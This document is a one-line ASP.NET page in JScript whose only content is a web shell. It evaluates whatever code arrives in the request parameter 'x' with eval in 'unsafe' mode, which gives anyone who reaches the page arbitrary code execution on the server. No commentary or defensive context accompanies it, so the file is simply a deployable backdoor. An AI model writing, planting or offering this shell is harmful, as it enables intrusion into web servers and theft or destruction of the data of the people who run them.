<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>
